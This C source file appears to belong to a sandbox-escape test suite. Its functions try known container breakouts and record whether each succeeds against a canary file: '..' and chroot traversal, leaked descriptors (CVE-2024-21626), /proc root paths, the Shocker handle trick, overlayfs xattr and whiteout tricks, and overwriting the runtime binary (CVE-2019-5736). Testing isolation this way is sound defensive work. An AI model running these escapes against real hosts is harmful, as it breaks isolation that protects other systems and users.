/* Ways out of the root by names and descriptors, and tricks with the file system below it. */
#include "probe.h"

#include <dirent.h>
#include <sys/socket.h>
#include <sys/statvfs.h>
#include <sys/un.h>
#include <sys/xattr.h>

enum { UP = 40, DESCRIPTORS = 1024 };

/* path, many ..s, then the canary's file. */
static bool leads_out(const char *path) {
  char out[PATH_MAX + 512];
  snprintf(out, sizeof out, "%s", path);
  for (int i = 0; i < UP; i++) {
    strcat(out, "/..");
  }
  strncat(out, facts.file, PATH_MAX - 1);
  return strlen(out) < PATH_MAX && is_canary(AT_FDCWD, out);
}

static void dotdot(void) {
  if (chdir("/") != 0 || leads_out("") || leads_out(".")) {
    escaped("%s was read", facts.file);
  }
  int directory = open("/", O_PATH | O_DIRECTORY);
  for (int i = 0; i < UP && directory >= 0; i++) {
    directory = openat(directory, "..", O_PATH | O_DIRECTORY);
  }
  if (directory >= 0 && is_canary(directory, facts.file + 1)) {
    escaped("%s was read", facts.file);
  }
}

/* A root below the working directory: nothing stops .. at the old one. */
static void chroot_again(void) {
  mkdir("/tmp/jail", 0755);
  if (chdir("/") != 0 || chroot("/tmp/jail") != 0) {
    refused(errno);
  }
  rmdir("tmp/jail");
  for (int i = 0; i < UP; i++) {
    if (chdir("..") != 0) {
      refused(errno);
    }
  }
  if (is_canary(AT_FDCWD, facts.file + 1)) {
    escaped("%s was read", facts.file);
  }
  harmless("it ends at the sandbox's root");
}

/* CVE-2024-21626, the first half: what the runtime has left open. */
static void open_descriptors(void) {
  for (int i = 3; i < DESCRIPTORS; i++) {
    if (fcntl(i, F_GETFD) >= 0) {
      char name[32], target[256] = "";
      snprintf(name, sizeof name, "/proc/self/fd/%d", i);
      if (readlink(name, target, sizeof target - 1) < 0) {
        target[0] = 0;
      }
      escaped("descriptor %d is open: %s", i, target);
    }
  }
}

static void descriptors_of(const char *process) {
  char path[PATH_MAX];
  for (int i = 0; i < DESCRIPTORS; i++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d", process, i);
    if (leads_out(path)) {
      escaped("%s leads to %s", path, facts.file);
    }
  }
}

/* Its other half, and that the working directory is inside. */
static void all_descriptors(void) {
  if (leads_out(".") || leads_out("/proc/self/cwd")) {
    escaped("the working directory leads to %s", facts.file);
  }
  descriptors_of("self");
  each_process(descriptors_of);
}

static void root_of(const char *process) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "/proc/%s/root%s", process, facts.file);
  if (is_canary(AT_FDCWD, path)) {
    escaped("%s was read", path);
  }
  snprintf(path, sizeof path, "/proc/%s/cwd", process);
  if (leads_out(path)) {
    escaped("%s leads to %s", path, facts.file);
  }
}

static void all_roots(void) { each_process(root_of); }

/*
 * Whether it is the program that runs the sandbox, and could be written: while it is executed that
 * fails with ETXTBSY, but by a mount that is not read-only it will not for ever.
 */
static bool is_hosts_program(int file) {
  struct stat status;
  struct statvfs mount;
  return fstat(file, &status) == 0 && status.st_ino == facts.exe[1] && status.st_dev == facts.exe[0] &&
         fstatvfs(file, &mount) == 0 && (mount.f_flag & ST_RDONLY) == 0;
}

static void executable_of(const char *process) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/exe", process);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file < 0) {
    return;
  }
  if (is_hosts_program(file)) {
    escaped("%s is the host's program", path);
  }
  close(file);
}

static void all_executables(void) {
  executable_of("self");
  each_process(executable_of);
}

/* Shocker: a handle for the host's root directory, made up, on a mount of the host's. */
static void open_handle(void) {
  struct {
    unsigned bytes;
    int type;
    unsigned char handle[8];
  } handle = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
  int mount = open("/etc/hosts", O_RDONLY | O_CLOEXEC);
  if (mount < 0) {
    mount = open("/", O_RDONLY | O_CLOEXEC);
  }
  past_check(syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY));
}

static void own_handle(void) {
  struct {
    unsigned bytes;
    int type;
    unsigned char handle[128];
  } handle = {.bytes = 128};
  int mount;
  if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &handle, &mount, 0) != 0) {
    refused(errno);
  }
  past_check(syscall(SYS_open_by_handle_at, open("/", O_RDONLY), &handle, O_RDONLY));
}

/* A layer that says where its contents are: overlayfs would follow it out of the layer. */
static void overlay_marks(void) {
  int file = open("/tmp/marked", O_CREAT | O_WRONLY, 0600);
  if (file < 0) {
    refused(errno);
  }
  long result = fsetxattr(file, "trusted.overlay.redirect", "/etc", 4, 0);
  int error = errno;
  unlink("/tmp/marked");
  errno = error;
  past_check(result);
}

/* A character device 0:0 in an upper directory takes away what lies below. */
static void overlay_whiteout(void) {
  long result = mknod("/tmp/whiteout", S_IFCHR | 0600, 0);
  int error = errno;
  unlink("/tmp/whiteout");
  errno = error;
  past_check(result);
}

/* A second name for the caller's file, beside the image's: it would outlive the sandbox. */
static void link_out(void) {
  long result = link("/etc/hosts", "/etc/hosts-attack");
  int error = errno;
  unlink("/etc/hosts-attack");
  if (result != 0) {
    refused(error);
  }
  escaped("the caller's file has a name in the image");
}

static void move_out(void) {
  int file = open("/tmp/own", O_CREAT | O_WRONLY, 0600);
  if (file < 0 || close(file) != 0 || rename("/etc/hosts", "/etc/hosts-attack") != 0) {
    refused(errno);
  }
  rename("/etc/hosts-attack", "/etc/hosts");
  escaped("the caller's file was moved");
}

/* The caller's directory, or what the builder copied or mounted, is /volume; a link lies in it. */
static void volume_link(void) {
  if (is_canary(AT_FDCWD, "/volume/link") || is_canary(AT_FDCWD, "/volume")) {
    escaped("a link led to %s", facts.file);
  }
  harmless("it leads to a place inside");
}

enum { HELD = 100 };

/* What loader.c has taken hold of: the program that was to become the image's. CVE-2019-5736. */
static void held_executable(void) {
  char path[32], name[256] = "";
  struct stat status;
  snprintf(path, sizeof path, "/proc/self/fd/%d", HELD);
  if (fstat(HELD, &status) != 0) {
    refused(errno);
  }
  if (readlink(path, name, sizeof name - 1) < 0) {
    name[0] = 0;
  }
  if (is_hosts_program(HELD)) {
    escaped("it holds the host's program %s", name);
  }
  int file = open(path, O_WRONLY | O_CLOEXEC);
  if (file >= 0 && write(file, "", 0) == 0 && ftruncate(file, status.st_size) == 0) {
    escaped("%s can be written", name);
  }
  harmless("it holds %s, which cannot be written", name);
}

/* Root may open it anew by its descriptor, whatever it was opened for. */
static void callers_file(int descriptor) {
  char path[32];
  struct stat status;
  if (fstat(descriptor, &status) != 0) {
    refused(errno);
  }
  if (!S_ISREG(status.st_mode)) {
    harmless("there is no file");
  }
  snprintf(path, sizeof path, "/proc/self/fd/%d", descriptor);
  if (fchmod(descriptor, 04755) == 0 && open(path, O_RDWR | O_CLOEXEC) >= 0) {
    escaped("the caller's file is a set-user-ID program now, and open for writing");
  }
  refused(errno);
}

static void input_file(void) { callers_file(0); }
static void output_file(void) { callers_file(1); }

/* For one that was started as somebody else. */
static void be_root(void) {
  if (getuid() == 0) {
    escaped("the number became root's");
  }
  harmless("user %d", getuid());
}

/* Deeper than any path may be long: who walks such a tree must not do so on its stack. */
static void deep_tree(void) {
  static const char name[] = "a-directory-in-a-directory-in-a-directory";
  int depth = 0;
  mkdir("/deep", 0755);
  if (chdir("/deep") != 0) {
    refused(errno);
  }
  while (depth < 3000 && mkdir(name, 0755) == 0 && chdir(name) == 0) {
    depth++;
  }
  harmless("%d directories deep", depth);
}

/* No attack: what keeps a sandbox to abstract sockets of its own must leave it those. */
static void own_socket(void) {
  struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "\0attack-own"};
  int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  int connection = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (bind(listener, (struct sockaddr *)&address, sizeof address) != 0 || listen(listener, 1) != 0) {
    refused(errno);
  }
  if (fork() == 0) {
    _exit(connect(connection, (struct sockaddr *)&address, sizeof address) == 0 ? 0 : errno);
  }
  int status;
  wait(&status);
  if (status != 0) {
    refused(WEXITSTATUS(status));
  }
  harmless("connected");
}

const struct row held_rows[] = {{.name = "own-socket", .attack = own_socket},
                                {.name = "deep-tree", .attack = deep_tree},
                                {.name = "be-root", .attack = be_root},
                                {.name = "input-file", .attack = input_file},
                                {.name = "output-file", .attack = output_file},
                                {.name = "volume-link", .attack = volume_link},
                                {.name = "held-executable", .attack = held_executable},
                                {0}};

const struct row file_rows[] = {
    {.name = "dotdot", .attack = dotdot},
    {.name = "chroot-again", .attack = chroot_again},
    {.name = "open-descriptors", .attack = open_descriptors},
    {.name = "all-descriptors", .attack = all_descriptors},
    {.name = "all-roots", .attack = all_roots},
    {.name = "all-executables", .attack = all_executables},
    {.name = "open-handle", .attack = open_handle},
    {.name = "own-handle", .attack = own_handle},
    {.name = "overlay-marks", .attack = overlay_marks},
    {.name = "overlay-whiteout", .attack = overlay_whiteout},
    {.name = "link-out", .attack = link_out},
    {.name = "move-out", .attack = move_out},
    {0}};
